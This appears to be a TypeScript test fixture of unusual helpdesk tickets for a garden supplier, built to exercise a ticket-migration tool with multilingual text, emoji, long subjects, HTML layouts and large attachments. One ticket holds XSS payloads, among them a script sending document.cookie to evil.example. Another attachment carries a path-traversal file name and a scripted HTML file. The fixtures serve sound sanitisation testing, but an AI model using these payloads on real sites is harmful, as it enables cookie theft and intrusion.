import { computedFile, plantPicture, textFile } from './files.ts'
import { DELETED_AGENT_ID } from './people.ts'
import { byAgent, byContact, note, type PlannedTicket } from './planned-ticket.ts'
import { inlineImage, paragraphs, ticketUrl } from './write-html.ts'

const LONG_SUBJECT =
  'Order for the spring sale of the Larkfield Allotment Society, with the changes agreed at the meeting on the 14th, the substitutions for the two varieties you no longer carry, the delivery in two parts, and the question of who pays for a pallet, which Mr Dunmore still says was promised free of charge'

/** Tickets that are hard to migrate, each for one reason. Each replaces the ordinary ticket with its number. */
export const ODD_TICKETS: Readonly<Record<number, PlannedTicket>> = {
  1001: {
    subject: 'Catalogue request (from the old card index)',
    description: paragraphs(
      'Dear Sirs, please send me your spring catalogue for 1998, and a price for the small cold frame. I enclose stamps.',
    ),
    requesterId: 1,
    createdAt: '1998-01-12T09:30:00.000Z',
    status: 'closed',
    channel: 'post',
    groupId: 1,
    assigneeId: DELETED_AGENT_ID,
    tags: ['archive'],
    comments: [
      byAgent(
        DELETED_AGENT_ID,
        paragraphs('Catalogue posted with our compliments. The cold frame is £38 including carriage.'),
      ),
      byContact(1, paragraphs('Catalogue received. One cold frame, please. Cheque enclosed.')),
    ],
  },
  1006: {
    subject: '',
    description: paragraphs(
      'Is this the right place to ask about gift vouchers? I did not know what to put at the top.',
    ),
    requesterId: 6,
    status: 'open',
    comments: [byAgent(8, paragraphs('It is. Vouchers come in £10, £25 and £50, by post or by mail.'))],
  },
  1014: {
    subject: 'طلب بذور الطماطم لم يصل بعد',
    description:
      '<p dir="rtl">السلام عليكم، طلبت بذور الطماطم والنعناع قبل ثلاثة أسابيع ولم يصل الطرد حتى الآن. رقم الطلب FH-20817. هل يمكنكم التحقق من الشحنة؟</p>\n<p dir="rtl">مع خالص الشكر، ليلى حداد</p>',
    requesterId: 2,
    groupId: 1,
    tags: ['delivery', 'export', 'عربي'],
    comments: [
      byAgent(
        1,
        '<p dir="rtl">أهلاً ليلى، الشحنة متوقفة في الجمارك منذ يوم الثلاثاء. أرسلنا لهم شهادة الصحة النباتية اليوم.</p>\n<p>(Reference for the carrier: <strong>PH-88 214 GB</strong>, 1.2 kg)</p>',
      ),
      byContact(2, '<p dir="rtl">شكراً جزيلاً! هل أحتاج إلى دفع رسوم إضافية؟ 🌱</p>'),
      note(1, paragraphs('Phytosanitary certificate was missing from the parcel. Our mistake, we pay the fee.')),
      byAgent(1, '<p dir="rtl">لا، كل الرسوم علينا. ستصل الشحنة خلال أيام قليلة.</p>'),
    ],
  },
  1019: {
    subject: 'שאלה על מערכת טפטוף למרפסת (Drizzle kit)',
    description: '<p dir="rtl">שלום, קניתי את ערכת הטפטוף Drizzle עבור 12 אדניות במרפסת. האם לחץ של 1.5 bar מספיק?</p>',
    requesterId: 3,
    groupId: 2,
    comments: [
      byAgent(3, '<p dir="rtl">שלום נועה, כן. עד 20 טפטפות אין צורך במשאבה.</p>'),
      byContact(3, '<p dir="rtl">תודה רבה, הכול עובד!</p>'),
    ],
  },
  1023: {
    subject: '🍅🍅🍅 BEST TOMATOES EVER 🎉 (and a question 👩‍🌾)',
    description: paragraphs(
      'Thank you!!! 🥹 My balcony is a jungle 🌿🌿. Can I keep seed from an F1 plant, or will the children be strange? 👶🏽🍅',
    ),
    requesterId: 11,
    priority: 'low',
    comments: [
      byAgent(
        3,
        paragraphs('They will be surprises, not always nice ones. Keep seed from Gardener’s Delight instead. 🌱'),
      ),
      byContact(11, paragraphs('葵です。了解しました 🙇‍♀️ 来年試してみます。')),
    ],
  },
  1031: {
    subject: LONG_SUBJECT,
    description: paragraphs(
      'Everything is in the subject, I think. Mr Dunmore wishes to add that he has it in writing.',
    ),
    requesterId: 4,
    groupId: 3,
    cc: ['constance@larkfield-allotments.example', 'treasurer@larkfield-allotments.example', 'plot7@post.example'],
    dueInDays: 12,
    comments: [
      byAgent(
        6,
        paragraphs(
          'Dear Mrs Ellery, he has, and the pallet is free. Two deliveries, the second in the week after Easter.',
        ),
      ),
      note(6, paragraphs(`Same argument as last year, see ${ticketUrl(1007)}.`)),
    ],
  },
  1038: {
    subject: 'Planting plan with table & list <please keep the layout>',
    description:
      '<p>Our plan for the three beds, please tell us what you think:</p><table><thead><tr><th>Bed</th><th>March</th><th>June</th></tr></thead><tbody><tr><td>North</td><td>Broad beans</td><td>Leeks</td></tr><tr><td>South</td><td>Potatoes</td><td>Kale &amp; chard</td></tr></tbody></table><ul><li>Soil<ul><li>pH 6.4</li><li>clay<ol><li>top 20 cm dug</li><li>the rest not</li></ol></li></ul></li><li>Water: one butt</li></ul>',
    requesterId: 9,
    groupId: 2,
    comments: [
      byAgent(
        3,
        '<blockquote><p>Potatoes, then kale &amp; chard</p></blockquote><p>Put the kale where the beans were: <strong>it wants the nitrogen</strong>.</p><hr><p>Our rotation, as the timer wants it:</p><pre><code>bed.north = ["beans", "kale"]\nif (rain &lt; 5) { open(valve) }</code></pre>',
      ),
      byContact(
        9,
        '<p>Merci&nbsp;! Voilà le jardin aujourd’hui :</p>' +
          inlineImage(0, 'The north bed') +
          '<p>et le plan :</p>' +
          inlineImage(1, 'Plan'),
        [plantPicture('jardin-nord.png', 40, 0.9, true), plantPicture('plan.png', 120, 0.6, true)],
      ),
    ],
  },
  1042: {
    subject: '<script>alert("subject")</script> Test of your contact form',
    description:
      '<p onclick="alert(1)">Hello</p><script>fetch("https://evil.example/"+document.cookie)</script><img src=x onerror="alert(2)"><a href="javascript:alert(3)">a link</a><iframe src="https://evil.example"></iframe>',
    requesterId: 8,
    priority: 'low',
    tags: ['spam?', '"><svg onload=alert(4)>'],
    comments: [
      note(2, paragraphs('Looks like somebody trying the form for holes. Kept for the web people.')),
      byContact(
        8,
        '<style>body{display:none}</style><p>Did it arrive?</p></div></body><img src="https://evil.example/pixel.gif" width="1">',
      ),
    ],
  },
  1047: {
    subject: 'Film of the leaking greenhouse roof, 30 MB',
    description: paragraphs('You asked for a film of the drip. It is rather long, you have to wait for it.'),
    requesterId: 8,
    groupId: 2,
    priority: 'high',
    comments: [
      byContact(8, paragraphs('Here it is.'), [computedFile('roof-drip.mp4', 'video/mp4', 30 * 1024 * 1024)]),
      byAgent(7, paragraphs('At 4:12, got it. The glazing bar is in upside down. A fitter comes on Thursday.')),
    ],
  },
  1053: {
    subject: 'Two files that our mail program complained about',
    description: paragraphs(
      'The price list arrived empty, and the other file has a name that my computer refuses to save.',
    ),
    requesterId: 5,
    groupId: 3,
    comments: [
      byContact(5, paragraphs('Both attached, as they came.'), [
        textFile('price-list.csv', 'text/csv', ''),
        textFile('../../etc/passwd – “Ünïcödé”.txt', 'text/plain', 'Only a name. Nothing to see here.\n'),
        textFile('invoice.html', 'text/html', '<script>alert("from an attachment")</script>'),
      ]),
      byAgent(
        9,
        paragraphs('The first was cut off by the export, a new one follows. The second is somebody being funny.'),
      ),
    ],
  },
  1066: {
    subject: 'Left us, still the owner',
    description: paragraphs('Gwen promised to look after my roses herself. Is she back from holiday?'),
    requesterId: 10,
    status: 'open',
    assigneeId: DELETED_AGENT_ID,
    groupId: 2,
    comments: [
      byAgent(DELETED_AGENT_ID, paragraphs('I will see to it the moment I am back. Gwen')),
      note(1, paragraphs('Gwen has left. Somebody please take this over.')),
    ],
  },
}

/** Three tickets of different customers with the same subject. */
export const DUPLICATE_SUBJECT = { numbers: [1060, 1074, 1091], subject: 'Order not arrived' } as const

export const LONG_THREAD = { number: 1058, comments: 60 } as const
